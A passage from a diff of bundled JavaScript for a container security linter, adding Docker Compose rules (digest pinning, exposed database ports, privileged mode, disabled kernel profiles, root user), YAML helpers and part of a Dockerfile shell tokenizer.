+  id: "compose/image-no-digest",
+  check: "manifests",
+  title: "Service image is not pinned by digest",
+  severity: "low",
+  description: "A compose service runs an `image:` by version tag but without `@sha256:` digest. Services with `build:` are not reported; `latest` and untagged images are reported by `compose/image-latest`.",
+  rationale: "Tags are mutable: whoever controls the repository (or compromises it) can point `redis:7.4` at different content. A digest pins the exact bytes that were reviewed and scanned.",
+  fix: "Append the digest and let Renovate or Dependabot maintain it:\n\n```yaml\nservices:\n  cache:\n    image: redis:7.4.1-alpine@sha256:<digest>\n```",
+  references: [
+    "https://docs.docker.com/reference/compose-file/services/#image",
+    "https://docs.renovatebot.com/docker/#digest-pinning"
+  ]
+};
+function check(file, rule35, wanted) {
+  const reporter = new Reporter(file, rule35);
+  const { view: view2 } = file;
+  for (const service of file.services) {
+    if (view2.get(service.node, "build")) continue;
+    const entry = view2.get(service.node, "image");
+    const raw = view2.scalar(entry?.value);
+    if (raw === void 0) continue;
+    const image = withDefaults(raw.trim());
+    if (image === void 0 || image === "") continue;
+    const pinning = pinningOf(image);
+    if (!wanted.includes(pinning)) continue;
+    const name = parseImageReference(image).name;
+    reporter.report(service, entry?.value, {
+      key: name,
+      message: pinning === "tag" ? `Service \`${service.name}\` runs ${code(image)}, pinned by tag only.` : `Service \`${service.name}\` runs ${code(image)}, ${pinning === "latest" ? "the moving `latest` tag" : "which has no tag and means `latest`"}.`,
+      fix: `image: ${name}:<version>@sha256:<digest>`
+    });
+  }
+  return reporter;
+}
+var imageLatest = {
+  rule: latestRule,
+  check: (file) => check(file, latestRule, ["latest", "untagged"]).findings
+};
+var imageNoDigest = {
+  rule: digestRule,
+  check: (file) => check(file, digestRule, ["tag"]).findings
+};
+
+// src/checks/manifests/compose/ports.ts
+var SENSITIVE_PORTS = {
+  22: "SSH",
+  23: "Telnet",
+  1433: "SQL Server",
+  1521: "Oracle",
+  2181: "ZooKeeper",
+  2375: "Docker API (plain)",
+  2376: "Docker API (TLS)",
+  2379: "etcd",
+  2380: "etcd peer",
+  3306: "MySQL/MariaDB",
+  3389: "RDP",
+  5432: "PostgreSQL",
+  5672: "RabbitMQ",
+  5900: "VNC",
+  5984: "CouchDB",
+  6379: "Redis",
+  6443: "Kubernetes API",
+  7e3: "Cassandra",
+  7001: "Cassandra (TLS)",
+  8086: "InfluxDB",
+  8500: "Consul",
+  9042: "Cassandra CQL",
+  9092: "Kafka",
+  9200: "Elasticsearch",
+  9300: "Elasticsearch transport",
+  10250: "kubelet",
+  11211: "memcached",
+  15672: "RabbitMQ management",
+  26257: "CockroachDB",
+  27017: "MongoDB",
+  27018: "MongoDB"
+};
+function range2(text) {
+  const match2 = /^(\d+)(?:-(\d+))?$/.exec(text.trim());
+  if (!match2) return void 0;
+  const low = Number(match2[1]);
+  return { low, high: match2[2] === void 0 ? low : Number(match2[2]) };
+}
+function parseShortPort(spec) {
+  const withoutProtocol = spec.trim().replace(/\/(?:tcp|udp|sctp)$/i, "");
+  let hostIp = "";
+  let rest = withoutProtocol;
+  const bracketed = /^\[([^\]]*)\]:(.*)$/.exec(withoutProtocol);
+  if (bracketed) {
+    hostIp = bracketed[1];
+    rest = bracketed[2];
+  }
+  const parts = rest.split(":");
+  if (!bracketed && parts.length > 2) {
+    hostIp = parts.slice(0, -2).join(":");
+  }
+  const container = range2(parts[parts.length - 1]);
+  return container ? { hostIp, ...container } : void 0;
+}
+function isAllInterfaces(hostIp) {
+  const ip = hostIp.trim().replace(/^\[|\]$/g, "");
+  return ip === "" || ip === "0.0.0.0" || ip === "::" || /^0+(?::0+)*::?$/.test(ip);
+}
+var rule21 = {
+  id: "compose/exposed-sensitive-port",
+  check: "manifests",
+  title: "Database or admin port published on all interfaces",
+  severity: "medium",
+  description: 'A compose service publishes a database or administration port on every host interface. Covered ports: SSH 22, Telnet 23, SQL Server 1433, Oracle 1521, ZooKeeper 2181, Docker API 2375/2376, etcd 2379/2380, MySQL 3306, RDP 3389, PostgreSQL 5432, RabbitMQ 5672/15672, VNC 5900, CouchDB 5984, Redis 6379, Kubernetes API 6443, Cassandra 7000/7001/9042, InfluxDB 8086, Consul 8500, Kafka 9092, Elasticsearch 9200/9300, kubelet 10250, memcached 11211, CockroachDB 26257, MongoDB 27017/27018 \u2014 matched on the container port. Short syntax (`"5432"`, `"5432:5432"`, `"0.0.0.0:5432:5432"`, `"[::]:5432:5432"`, ranges) and long syntax (`target:`, `host_ip:`) are checked; a binding to `127.0.0.1`, `::1` or another specific address is fine.',
+  rationale: "Docker publishes ports by writing its own firewall rules, which bypass host firewalls such as ufw. A database or admin API bound to `0.0.0.0` is therefore reachable from the network \u2014 often the internet \u2014 where default or weak credentials (or none, for Redis, memcached, Elasticsearch, the Docker API) are found by scanners within hours.",
+  fix: 'Publish only to loopback, or not at all and let other services use the compose network:\n\n```yaml\nservices:\n  db:\n    image: postgres:16.4\n    ports:\n      - "127.0.0.1:5432:5432"\n```',
+  references: [
+    "https://docs.docker.com/reference/compose-file/services/#ports",
+    "https://docs.docker.com/engine/network/packet-filtering-firewalls/"
+  ]
+};
+var exposedSensitivePort = {
+  rule: rule21,
+  check(file) {
+    const reporter = new Reporter(file, rule21);
+    const { view: view2 } = file;
+    for (const service of file.services) {
+      if (view2.scalar(view2.get(service.node, "network_mode")?.value)?.trim() === "host") continue;
+      const entry = view2.get(service.node, "ports");
+      if (!entry) continue;
+      for (const item of view2.items(entry.value)) {
+        let binding;
+        const short = view2.scalar(item);
+        if (short !== void 0) {
+          const resolved = withDefaults(short);
+          binding = resolved === void 0 ? void 0 : parseShortPort(resolved);
+        } else if (view2.asMap(item)) {
+          const target = range2(view2.scalar(view2.get(item, "target")?.value) ?? "");
+          const hostIp = withDefaults(view2.scalar(view2.get(item, "host_ip")?.value) ?? "");
+          binding = target && hostIp !== void 0 ? { hostIp, ...target } : void 0;
+        }
+        if (!binding || !isAllInterfaces(binding.hostIp)) continue;
+        for (const [port, name] of Object.entries(SENSITIVE_PORTS)) {
+          const number = Number(port);
+          if (number < binding.low || number > binding.high) continue;
+          reporter.report(service, item, {
+            key: `port:${port}`,
+            message: `Service \`${service.name}\` publishes ${name} (container port ${port}) on all host interfaces.`,
+            fix: `"127.0.0.1:${port}:${port}"`
+          });
+        }
+      }
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/compose/privileged.ts
+var rule22 = {
+  id: "compose/privileged",
+  check: "manifests",
+  title: "Privileged container",
+  severity: "critical",
+  description: "A compose service sets `privileged: true` (directly or through a `<<:` merge of an anchored block).",
+  rationale: "A privileged container gets every capability, all host devices, no seccomp or AppArmor profile and a writable `/sys`. Escaping to the host is trivial (mount the host disk from `/dev`, load a kernel module), so anyone who compromises the service \u2014 or who can change its image \u2014 owns the machine.",
+  fix: 'Remove `privileged` and grant only what the service needs:\n\n```yaml\nservices:\n  app:\n    cap_drop: [ALL]\n    cap_add: [NET_BIND_SERVICE]\n    devices: ["/dev/fuse:/dev/fuse"]\n```',
+  references: ["https://docs.docker.com/reference/compose-file/services/#privileged"]
+};
+var privileged = {
+  rule: rule22,
+  check(file) {
+    const reporter = new Reporter(file, rule22);
+    for (const service of file.services) {
+      const entry = file.view.get(service.node, "privileged");
+      if (!entry || file.view.scalar(entry.value)?.toLowerCase() !== "true") continue;
+      reporter.report(service, entry.value, {
+        key: "privileged",
+        message: `Service \`${service.name}\` runs privileged: it has full access to the host.`,
+        fix: "Remove privileged: true; add only the capabilities and devices the service needs."
+      });
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/compose/security-opt.ts
+function weakening(option) {
+  const normalized = option.trim().toLowerCase().replace(/\s+/g, "");
+  const [name, ...rest] = normalized.split(/[:=]/);
+  const value = rest.join(":");
+  if (name === "seccomp" && value === "unconfined") return "the seccomp system-call filter";
+  if (name === "apparmor" && value === "unconfined") return "the AppArmor profile";
+  if (name === "label" && (value === "disable" || value === "type:spc_t")) return "SELinux labelling";
+  if (name === "no-new-privileges" && value === "false") return "the no-new-privileges flag";
+  if (name === "systempaths" && value === "unconfined") return "the masking of sensitive /proc and /sys paths";
+  return void 0;
+}
+var rule23 = {
+  id: "compose/unconfined-security-opt",
+  check: "manifests",
+  title: "Kernel security profile disabled",
+  severity: "high",
+  description: "A compose service sets a `security_opt` entry that disables a kernel protection: `seccomp:unconfined` / `seccomp=unconfined`, `apparmor:unconfined`, `label:disable` or `label:type:spc_t` (SELinux), `no-new-privileges:false`, `systempaths=unconfined`.",
+  rationale: "The default seccomp profile blocks about 50 rarely needed system calls that are the entry point of many kernel exploits (`keyctl`, `unshare`, `bpf`...); AppArmor and SELinux confine what even root in the container may touch; `no-new-privileges` stops setuid binaries from raising privileges. Turning them off makes a container escape one kernel bug away.",
+  fix: "Remove the option. If a specific system call is needed, ship a custom profile that allows only it:\n\n```yaml\nservices:\n  app:\n    security_opt:\n      - no-new-privileges:true\n      - seccomp:./seccomp-app.json\n```",
+  references: [
+    "https://docs.docker.com/engine/security/seccomp/",
+    "https://docs.docker.com/reference/compose-file/services/#security_opt"
+  ]
+};
+var unconfinedSecurityOpt = {
+  rule: rule23,
+  check(file) {
+    const reporter = new Reporter(file, rule23);
+    for (const service of file.services) {
+      const entry = file.view.get(service.node, "security_opt");
+      if (!entry) continue;
+      for (const item of file.view.items(entry.value)) {
+        const option = file.view.scalar(item);
+        const what = option === void 0 ? void 0 : weakening(option);
+        if (!what || option === void 0) continue;
+        reporter.report(service, item, {
+          key: option.trim().toLowerCase().replace("=", ":"),
+          message: `Service \`${service.name}\` disables ${what} (\`${option.trim()}\`).`,
+          fix: "Remove it, or use a custom profile that allows only what is needed."
+        });
+      }
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/compose/user.ts
+var ROOT_RE = /^(?:root|0)(?::.*)?$/;
+var rule24 = {
+  id: "compose/root-user",
+  check: "manifests",
+  title: "Service runs as root",
+  severity: "medium",
+  description: "A compose service that runs a pulled `image:` sets no `user:`, so it runs as the image's default user (root for most images), or sets `user:` to `root`, `0`, `root:<group>` or `0:<group>`. Services built from a local `build:` without `user:` are left to the Dockerfile rule `dockerfile/root-user`. A `user:` that is only a variable without default cannot be judged and is not reported.",
+  rationale: "Root in a container is root on the host kernel unless user namespaces are enabled. Any escape \u2014 a kernel bug, a mounted socket, a writable host path, an added capability \u2014 then yields root on the host. Running as an unprivileged UID also stops a compromised process from modifying its own image files.",
+  fix: 'Run as an unprivileged UID (the image must allow it; most official images document one):\n\n```yaml\nservices:\n  web:\n    image: nginxinc/nginx-unprivileged:1.27\n    user: "101:101"\n```',
+  references: ["https://docs.docker.com/reference/compose-file/services/#user"],
+  exceptions: "Official database images (postgres, mysql, redis) start as root only to fix volume ownership and then drop to their own user; except them with a reason saying so, or set `user:` and pre-create the volume ownership."
+};
+var rootUser = {
+  rule: rule24,
+  check(file) {
+    const reporter = new Reporter(file, rule24);
+    const { view: view2 } = file;
+    for (const service of file.services) {
+      const entry = view2.get(service.node, "user");
+      const raw = view2.scalar(entry?.value);
+      if (raw === void 0) {
+        if (view2.get(service.node, "build") || !view2.get(service.node, "image")) continue;
+        reporter.report(service, service.key, {
+          key: "no-user",
+          message: `Service \`${service.name}\` sets no \`user:\`, so it runs as the image's default user, root for most images.`,
+          fix: 'user: "10001:10001"'
+        });
+        continue;
+      }
+      const user = withDefaults(raw.trim());
+      if (user === void 0 || !ROOT_RE.test(user)) continue;
+      reporter.report(service, entry?.value, {
+        key: "user-root",
+        message: `Service \`${service.name}\` runs as root (\`user: ${raw.trim()}\`).`,
+        fix: 'user: "10001:10001"'
+      });
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/compose/yaml-nodes.ts
+var import_yaml8 = __toESM(require_dist(), 1);
+var MAX_ALIAS_RESOLUTIONS = 2e6;
+var MAX_MERGE_DEPTH = 16;
+var YamlView = class {
+  constructor(parsed, doc2) {
+    this.parsed = parsed;
+    this.doc = doc2;
+  }
+  parsed;
+  doc;
+  resolutions = 0;
+  /** The node an alias points to (or the node itself). */
+  deref(node) {
+    let current = node;
+    for (let hops = 0; (0, import_yaml8.isAlias)(current); hops++) {
+      if (hops > 32) return void 0;
+      if (++this.resolutions > MAX_ALIAS_RESOLUTIONS) throw new Error("too many YAML alias dereferences");
+      current = current.resolve(this.doc);
+    }
+    return (0, import_yaml8.isScalar)(current) || (0, import_yaml8.isMap)(current) || (0, import_yaml8.isSeq)(current) ? current : void 0;
+  }
+  asMap(node) {
+    const resolved = this.deref(node);
+    return (0, import_yaml8.isMap)(resolved) ? resolved : void 0;
+  }
+  asSeq(node) {
+    const resolved = this.deref(node);
+    return (0, import_yaml8.isSeq)(resolved) ? resolved : void 0;
+  }
+  /** A scalar as a string (`true`, `0`, `"x"`), or undefined for maps, sequences and null. */
+  scalar(node) {
+    const resolved = this.deref(node);
+    if (!(0, import_yaml8.isScalar)(resolved)) return void 0;
+    const value = resolved.value;
+    if (value === null || value === void 0) return void 0;
+    if (typeof value === "string") return value;
+    if (typeof value === "number" || typeof value === "boolean" || typeof value === "bigint") return String(value);
+    return void 0;
+  }
+  /** Entries of a mapping with merges applied, in source order (own keys first). */
+  entries(node, depth = 0) {
+    const map = this.asMap(node);
+    if (!map || depth > MAX_MERGE_DEPTH) return [];
+    const own = /* @__PURE__ */ new Map();
+    const merged = [];
+    for (const pair2 of map.items) {
+      const keyNode = this.deref(pair2.key);
+      const key = this.scalar(keyNode);
+      if (key === void 0 || !keyNode) continue;
+      if (key === "<<" && !((0, import_yaml8.isScalar)(pair2.key) && pair2.key.type !== "PLAIN")) {
+        const sources = this.asSeq(pair2.value)?.items ?? [pair2.value];
+        for (const source of sources) merged.push(...this.entries(source, depth + 1));
+        continue;
+      }
+      own.set(key, { key: keyNode, value: this.deref(pair2.value) });
+    }
+    const result = [...own.values()];
+    const seen = new Set(own.keys());
+    for (const entry of merged) {
+      const key = this.scalar(entry.key);
+      if (key === void 0 || seen.has(key)) continue;
+      seen.add(key);
+      result.push(entry);
+    }
+    return result;
+  }
+  get(node, key) {
+    return this.entries(node).find((entry) => this.scalar(entry.key) === key);
+  }
+  items(node) {
+    const seq = this.asSeq(node);
+    if (!seq) return [];
+    return seq.items.map((item) => this.deref(item)).filter((item) => item !== void 0);
+  }
+  position(node) {
+    return this.parsed.nodePosition(node) ?? { line: 1, column: 1 };
+  }
+};
+
+// src/checks/manifests/compose/index.ts
+var COMPOSE_RULES = [
+  privileged,
+  hostNamespace,
+  dangerousCapability,
+  sensitiveHostMount,
+  unconfinedSecurityOpt,
+  rootUser,
+  secretInEnvironment,
+  exposedSensitivePort,
+  imageLatest,
+  imageNoDigest
+];
+function isComposePath(path8) {
+  const name = path8.slice(path8.lastIndexOf("/") + 1);
+  return /^(?:docker-)?compose.*\.y[^/]*ml$/.test(name);
+}
+function parseError(path8, message, line = 1, column = 1) {
+  return {
+    ruleId: "manifests/parse-error",
+    severity: "high",
+    title: "Compose file could not be parsed",
+    message: `This compose file could not be checked: ${message}`,
+    location: { path: path8, startLine: line, startColumn: column },
+    key: "compose-parse",
+    fix: "Fix the file so that `docker compose config --quiet` accepts it."
+  };
+}
+function lintCompose(file) {
+  let parsed;
+  try {
+    parsed = parseYaml(file.text);
+  } catch (error2) {
+    return [parseError(file.path, `the YAML parser failed (${errorMessage(error2).slice(0, 200)}).`)];
+  }
+  const findings = [];
+  for (const doc2 of parsed.documents) {
+    const error2 = firstYamlError(parsed, doc2);
+    if (error2) {
+      findings.push(parseError(file.path, `${error2.message}.`, error2.position.line, error2.position.column));
+      continue;
+    }
+    try {
+      documentToJS(doc2);
+    } catch (cause) {
+      findings.push(parseError(file.path, `${errorMessage(cause).slice(0, 200)}.`));
+      continue;
+    }
+    const view2 = new YamlView(parsed, doc2);
+    const servicesEntry = view2.get(doc2.contents, "services");
+    if (!servicesEntry || !view2.asMap(servicesEntry.value)) continue;
+    const services = view2.entries(servicesEntry.value).filter((entry) => view2.asMap(entry.value) !== void 0).map((entry) => ({ name: view2.scalar(entry.key) ?? "", key: entry.key, node: entry.value }));
+    const composeFile = { path: file.path, view: view2, services };
+    for (const { rule: rule35, check: check2 } of COMPOSE_RULES) {
+      try {
+        findings.push(...check2(composeFile));
+      } catch (cause) {
+        findings.push({
+          ...parseError(file.path, `rule ${rule35.id} failed (${errorMessage(cause).slice(0, 200)}).`),
+          key: `compose-rule-error:${rule35.id}`
+        });
+      }
+    }
+  }
+  return findings;
+}
+var composeLinter = {
+  id: "compose",
+  rules: COMPOSE_RULES.map(({ rule: rule35 }) => rule35),
+  matches: isComposePath,
+  lint(files) {
+    return files.flatMap((file) => lintCompose(file));
+  }
+};
+
+// src/checks/manifests/dockerfile/parse.ts
+var import_dockerfile_ast = __toESM(require_main(), 1);
+
+// src/checks/manifests/dockerfile/shell.ts
+var MAX_NESTING2 = 4;
+var OPERATORS = [
+  "&&",
+  "||",
+  ";;",
+  "|&",
+  "&>>",
+  "&>",
+  ">>",
+  "<<<",
+  "<<-",
+  "<<",
+  ">&",
+  "<&",
+  ">|",
+  "<>",
+  "|",
+  "&",
+  ";",
+  "(",
+  ")",
+  "<",
+  ">"
+];
+var REDIRECTIONS = /* @__PURE__ */ new Set(["&>>", "&>", ">>", "<<<", "<<-", "<<", ">&", "<&", ">|", "<>", "<", ">"]);
+var RESERVED_PREFIXES = /* @__PURE__ */ new Set([
+  "if",
+  "then",
+  "else",
+  "elif",
+  "fi",
+  "do",
+  "done",
+  "while",
+  "until",
+  "!",
+  "{",
+  "}",
+  "esac"
+]);
+var COMPOUND_HEADS = /* @__PURE__ */ new Set(["for", "case", "select", "function", "in"]);
+function identityMapped(text, base) {
+  const offsets = new Array(text.length);
+  for (let i = 0; i < text.length; i++) offsets[i] = base + i;
+  return { text, offsets };
+}
+var Tokenizer = class {
+  constructor(src, escape2) {
+    this.src = src;
+    this.escape = escape2;
+  }
+  src;
+  escape;
+  i = 0;
+  tokens = [];
+  pendingHeredocs = [];
+  run() {
+    const { text } = this.src;
+    while (this.i < text.length) {
+      const c = text[this.i];
+      if (c === " " || c === "	" || c === "\r") {
+        this.i++;
+      } else if (c === "\n") {
+        this.tokens.push({ kind: "newline" });
+        this.i++;
+        this.skipHeredocBodies();
+      } else if (c === "#") {
+        while (this.i < text.length && text[this.i] !== "\n") this.i++;
+      } else if (this.escape !== null && c === this.escape && this.isLineContinuation(this.i)) {
+        this.i = text.indexOf("\n", this.i) + 1;
+      } else if ((c === "<" || c === ">") && text[this.i + 1] === "(") {
+        this.tokens.push({ kind: "word", word: this.readWord() });
+      } else {
+        const op = OPERATORS.find((candidate) => text.startsWith(candidate, this.i));
+        if (op) {
+          this.i += op.length;
+          this.tokens.push({ kind: "op", op });
+          if (op === "<<" || op === "<<-") this.readHeredocDelimiter(op === "<<-");
+        } else {
+          const word = this.readWord();
+          const next = text[this.i];
+          if (/^\d+$/.test(word.text) && (next === "<" || next === ">")) continue;
+          this.tokens.push({ kind: "word", word });
+        }
+      }
+    }
+    return this.tokens;
+  }
+  isLineContinuation(at) {
+    const { text } = this.src;
+    let j = at + 1;
+    while (j < text.length && (text[j] === " " || text[j] === "	" || text[j] === "\r")) j++;
+    return text[j] === "\n";
+  }
+  readHeredocDelimiter(stripTabs) {
+    const { text } = this.src;
+    while (this.i < text.length && (text[this.i] === " " || text[this.i] === "	")) this.i++;
+    if (this.i >= text.length || text[this.i] === "\n") return;
+    const word = this.readWord();
+    this.tokens.push({ kind: "word", word });
+    if (word.text) this.pendingHeredocs.push({ delimiter: word.text, stripTabs });
+  }
+  /** Heredoc bodies are data for the command, not shell code: skip them. */
+  skipHeredocBodies() {
+    const { text } = this.src;
+    while (this.pendingHeredocs.length > 0) {
+      const { delimiter, stripTabs } = this.pendingHeredocs.shift();
+      while (this.i < text.length) {
+        let end = text.indexOf("\n", this.i);
+        if (end < 0) end = text.length;
+        let line = text.slice(this.i, end).replace(/\r$/, "");
+        if (stripTabs) line = line.replace(/^\t+/, "");
+        this.i = Math.min(end + 1, text.length);
+        if (line === delimiter) break;
+      }
+    }
+  }
+  readWord() {
+    const { text, offsets } = this.src;
+    const out = [];
+    const outOffsets = [];
+    const substitutions = [];
+    const start = offsets[this.i] ?? 0;
+    const add = (from, to) => {
+      for (let k = from; k < to; k++) {
+        out.push(text[k]);
+        outOffsets.push(offsets[k]);
+      }
+    };
+    const addSubstitution = (bodyFrom, bodyTo) => {
+      substitutions.push({ text: text.slice(bodyFrom, bodyTo), offsets: offsets.slice(bodyFrom, bodyTo) });
+    };
+    while (this.i < text.length) {
+      const c = text[this.i];
+      if ((c === "<" || c === ">") && text[this.i + 1] === "(" && out.length === 0) {
+        const end = this.scanBalanced(this.i + 1, "(", ")");
+        addSubstitution(this.i + 2, Math.max(this.i + 2, end - 1));
+        add(this.i, end);
+        this.i = end;
+        continue;
+      }
+      if (c === " " || c === "	" || c === "\r" || c === "\n" || "|&;()<>".includes(c)) break;
+      if (this.escape !== null && c === this.escape) {
+        if (this.isLineContinuation(this.i)) {
+          this.i = text.indexOf("\n", this.i) + 1;
+          continue;
+        }
+        if (this.i + 1 < text.length) add(this.i + 1, this.i + 2);
+        this.i += 2;
+        continue;
+      }
+      if (c === "'") {
+        const end = text.indexOf("'", this.i + 1);
+        const stop = end < 0 ? text.length : end;
+        add(this.i + 1, stop);
+        this.i = stop + 1;
+        continue;
+      }
+      if (c === "$" && text[this.i + 1] === "'") {
+        let j = this.i + 2;
+        while (j < text.length && text[j] !== "'") j += text[j] === "\\" ? 2 : 1;
+        add(this.i + 2, Math.min(j, text.length));
+        this.i = j + 1;
+        continue;
+      }
+      if (c === '"') {
+        this.i = this.readDoubleQuoted(this.i + 1, add, addSubstitution);
+        continue;
+      }
+      if (c === "$" || c === "`") {
+        this.i = this.readExpansion(this.i, add, addSubstitution);
+        continue;
+      }
+      add(this.i, this.i + 1);
+      this.i++;
+    }
+    return { text: out.join(""), offsets: outOffsets, start, substitutions };
+  }
+  /** Reads `"…"` starting after the opening quote; returns the index after the closing quote. */
+  readDoubleQuoted(from, add, addSubstitution) {
+    const { text } = this.src;
+    let j = from;
+    while (j < text.length && text[j] !== '"') {
+      const c = text[j];
+      if (c === "\\" && this.escape !== null) {
+        const next = text[j + 1];
+        if (next === "\n") {
+          j += 2;
+        } else if (next !== void 0 && '$`"\\'.includes(next)) {
+          add(j + 1, j + 2);
+          j += 2;
+        } else {
+          add(j, j + 1);
+          j++;
+        }
+      } else if (c === "$" || c === "`") {
+        j = this.readExpansion(j, add, addSubstitution);
+      } else {
+        add(j, j + 1);
+        j++;
+      }
+    }
+    return j + 1;
+  }
+  /** Reads `$(…)`, `$((…))`, `${…}`, `` `…` `` or a plain `$`; appends it verbatim. */
+  readExpansion(at, add, addSubstitution) {
+    const { text } = this.src;
+    if (text[at] === "`") {
+      let j = at + 1;
+      while (j < text.length && text[j] !== "`") j += text[j] === "\\" ? 2 : 1;
+      const end = Math.min(j + 1, text.length);
+      addSubstitution(at + 1, Math.min(j, text.length));
+      add(at, end);
+      return end;
+    }
+    const next = text[at + 1];
+    if (next === "(") {
+      const end = this.scanBalanced(at + 1, "(", ")");
+      if (text[at + 2] !== "(") addSubstitution(at + 2, Math.max(at + 2, end - 1));
+      add(at, end);
+      return end;
+    }
+    if (next === "{") {
+      const end = this.scanBalanced(at + 1, "{", "}");
+      add(at, end);
+      return end;
+    }
+    add(at, at + 1);
+    return at + 1;
+  }
+  /** Index after the bracket that closes the one at `at`, skipping quoted text; the text end if none. */
+  scanBalanced(at, open3, close) {
+    const { text } = this.src;
+    let depth = 0;
+    let j = at;
+    while (j < text.length) {
+      const c = text[j];
+      if (c === "\\") {
+        j += 2;
+        continue;
+      }
+      if (c === "'") {
+        const end = text.indexOf("'", j + 1);
+        j = end < 0 ? text.length : end + 1;
+        continue;
+      }
+      if (c === '"') {
+        j++;
+        while (j < text.length && text[j] !== '"') j += text[j] === "\\" ? 2 : 1;
+        j++;
+        continue;
+      }
+      if (c === open3) depth++;
+      else if (c === close && --depth === 0) return j + 1;
+      j++;
+    }
+    return text.length;
+  }
+};
+function tokenize3(src, options) {
+  return new Tokenizer(src, options.escape).run();
+}
+var ASSIGNMENT_RE = /^[A-Za-z_][A-Za-z0-9_]*\+?=/;
+function isAssignment(word) {
+  return ASSIGNMENT_RE.test(word.text);
+}
+function splitCommands(tokens, depth, counter) {
+  const commands = [];
+  let words = [];
+  let pipeline = counter.next++;
+  let index = 0;
+  let redirectTarget = false;
+  const finish = () => {
+    const assignments = [];
+    let k = 0;
+    while (k < words.length && RESERVED_PREFIXES.has(words[k].text)) k++;
+    while (k < words.length && isAssignment(words[k])) assignments.push(words[k++]);
+    const argv = words.slice(k);
+    const head = argv[0]?.text;
+    if ((argv.length > 0 || assignments.length > 0) && !(head !== void 0 && COMPOUND_HEADS.has(head))) {
+      commands.push({ words: argv, assignments, pipeline, index, depth });
+    }
+    words = [];
+  };
+  for (const token of tokens) {
+    if (token.kind === "word") {
+      if (redirectTarget) redirectTarget = false;
+      else words.push(token.word);
+    } else if (token.kind === "op" && REDIRECTIONS.has(token.op)) {
+      redirectTarget = true;
+    } else if (token.kind === "op" && (token.op === "|" || token.op === "|&")) {
+      finish();
+      index++;
+    } else {
+      finish();
+      pipeline = counter.next++;
+      index = 0;
+      redirectTarget = false;
+    }
+  }
+  finish();
+  return commands;
+}
+function basename(word) {
+  if (!word) return "";
+  const slash = word.text.lastIndexOf("/");
+  return slash >= 0 ? word.text.slice(slash + 1) : word.text;
+}
+var SHELLS = /* @__PURE__ */ new Set(["sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "busybox"]);
+var WRAPPERS = {
+  sudo: { valueOptions: "ugCDhprtUT", maxPositional: 0 },
+  doas: { valueOptions: "uC", maxPositional: 0 },
+  env: { valueOptions: "uCS", maxPositional: 0 },
+  exec: { valueOptions: "a", maxPositional: 0 },
+  command: { valueOptions: "", maxPositional: 0 },
+  builtin: { valueOptions: "", maxPositional: 0 },
+  nohup: { valueOptions: "", maxPositional: 0 },
+  time: { valueOptions: "fo", maxPositional: 0 },
+  nice: { valueOptions: "n", maxPositional: 0 },
+  ionice: { valueOptions: "cnp", maxPositional: 0 },
+  stdbuf: { valueOptions: "ioe", maxPositional: 0 },
+  timeout: { valueOptions: "ks", maxPositional: 1 },
+  gosu: { valueOptions: "", maxPositional: 1 },
+  "su-exec": { valueOptions: "", maxPositional: 1 },
+  chpst: { valueOptions: "uUe", maxPositional: 0 },
+  tini: { valueOptions: "", maxPositional: 0 },
+  "dumb-init": { valueOptions: "", maxPositional: 0 }
+};
+function invocation(command) {
+  let argv = command.words;
+  const wrappers = [];
+  const assignments = [...command.assignments];
+  for (let guard = 0; guard < 8 && argv.length > 0; guard++) {
+    const name = basename(argv[0]);
+    const spec = WRAPPERS[name];
+    if (!spec) break;
+    wrappers.push(argv[0]);
+    let k = 1;
+    let positional = 0;
+    while (k < argv.length) {
+      const text = argv[k].text;
+      if (text === "--") {
+        k++;
+        break;
+      }
+      if (text.startsWith("-") && text.length > 1) {
+        const letter = text.startsWith("--") ? "" : text.slice(-1);
+        const needsValue = letter !== "" && text.length === 2 && spec.valueOptions.includes(letter);
+        k += needsValue ? 2 : 1;
+        continue;
+      }
+      if ((name === "env" || name === "sudo") && isAssignment(argv[k])) {
+        assignments.push(argv[k]);
+        k++;
+        continue;
+      }
+      if (positional < spec.maxPositional) {
+        positional++;
+        k++;
+        continue;
+      }
+      break;
+    }
+    argv = argv.slice(k);
+  }
+  return { argv, wrappers, assignments };
+}
+function inlineScript(inv) {
+  const name = basename(inv.argv[0]);
+  if (!SHELLS.has(name) && name !== "su") return void 0;
+  const args = name === "busybox" && basename(inv.argv[1]) === "sh" ? inv.argv.slice(2) : inv.argv.slice(1);
+  let sawC = false;
+  for (let k = 0; k < args.length; k++) {
+    const text = args[k].text;
+    if (sawC && !text.startsWith("-")) return args[k];
+    if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(text) || text === "--command") sawC = true;
+    else if (text === "-o" || text === "+o") k++;
+    else if (!text.startsWith("-") && !text.startsWith("+") && name !== "su") return void 0;
+  }
+  return void 0;
+}
+function parseShell(src, options, depth = 0, counter = { next: 0 }) {
+  return expandNested(splitCommands(tokenize3(src, options), depth, counter), options, depth, counter);
+}
+function expandNested(commands, options, depth, counter) {
+  if (depth >= MAX_NESTING2) return commands;
+  const all = [];
+  for (const command of commands) {
+    all.push(command);
+    const script = inlineScript(invocation(command));
+    for (const word of [...command.assignments, ...command.words]) {
+      if (word === script) continue;
+      for (const sub of word.substitutions) all.push(...parseShell(sub, options, depth + 1, counter));
+    }
+    if (script) all.push(...parseShell({ text: script.text, offsets: script.offsets }, options, depth + 1, counter));
+  }
+  return all;
+}
+
+// src/checks/manifests/dockerfile/parse.ts
+var DockerfileParseError = class extends Error {
+  constructor(message, line = 1, column = 1) {
+    super(message);
+    this.line = line;
+    this.column = column;
+  }
+  line;
+  column;
+};
+function computeLineStarts(text) {
+  const starts = [0];
+  for (let i = text.indexOf("\n"); i >= 0; i = text.indexOf("\n", i + 1)) starts.push(i + 1);
+  return starts;
+}
+function offsetOf(model, position) {
+  const lineStart = model.lineStarts[position.line] ?? model.text.length;
+  return Math.min(lineStart + position.character, model.text.length);
+}
+function positionAt(model, offset) {
+  const starts = model.lineStarts;
+  let low = 0;
+  let high = starts.length - 1;
+  while (low < high) {
+    const mid = low + high + 1 >> 1;
+    if (starts[mid] <= offset) low = mid;
+    else high = mid - 1;
+  }
+  return { line: low + 1, column: offset - starts[low] + 1 };
+}
+function substituteArgs(value, args) {
+  let unresolved = false;
+  const result = value.replace(
